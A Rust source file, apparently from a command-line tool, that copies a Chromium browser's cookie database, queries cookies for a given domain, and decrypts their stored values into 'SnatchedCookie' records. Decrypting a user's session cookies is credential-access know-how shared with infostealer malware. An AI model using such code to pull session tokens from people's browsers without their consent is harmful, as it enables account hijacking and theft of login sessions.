//! Chromium cookie database access.

use super::{Result, SnatchedCookie, crypto};
use rusqlite::Connection;
use std::path::Path;

/// Reads and decrypts cookies for `domain`, filtered to `keys` when
/// non-empty. The live database is locked while the browser runs, so the
/// query goes against a temporary copy.
pub fn read_cookies(db_path: &Path, domain: &str, keys: &[String]) -> Result<Vec<SnatchedCookie>> {
    let scratch = tempfile::NamedTempFile::new()?;
    std::fs::copy(db_path, scratch.path())?;

    let conn = Connection::open(scratch.path())?;
    let mut stmt = conn.prepare(
        "SELECT name, encrypted_value, host_key, path, expires_utc
         FROM cookies
         WHERE host_key LIKE ?1 OR host_key LIKE ?2
         ORDER BY creation_utc DESC",
    )?;

    let rows = stmt.query_map(
        rusqlite::params![format!("%{domain}"), format!("%.{domain}")],
        |row| {
            Ok((
                row.get::<_, String>(0)?,
                row.get::<_, Vec<u8>>(1)?,
                row.get::<_, String>(2)?,
                row.get::<_, String>(3)?,
                row.get::<_, i64>(4)?,
            ))
        },
    )?;

    let mut cookies = Vec::new();
    for row in rows {
        let (name, encrypted_value, host, path, expires_utc) = row?;
        if !keys.is_empty() && !keys.iter().any(|key| key == &name) {
            continue;
        }
        let value = match crypto::decrypt_cookie_value(&encrypted_value) {
            Ok(value) => value,
            Err(e) => {
                log::warn!("failed to decrypt cookie '{name}': {e}");
                continue;
            }
        };
        let cookie = SnatchedCookie {
            name,
            value,
            host,
            path,
            expires_utc,
        };
        if cookie.is_expired() {
            log::debug!("skipping expired cookie '{}'", cookie.name);
            continue;
        }
        cookies.push(cookie);
    }
    log::debug!("{} cookies matched domain {domain}", cookies.len());
    Ok(cookies)
}
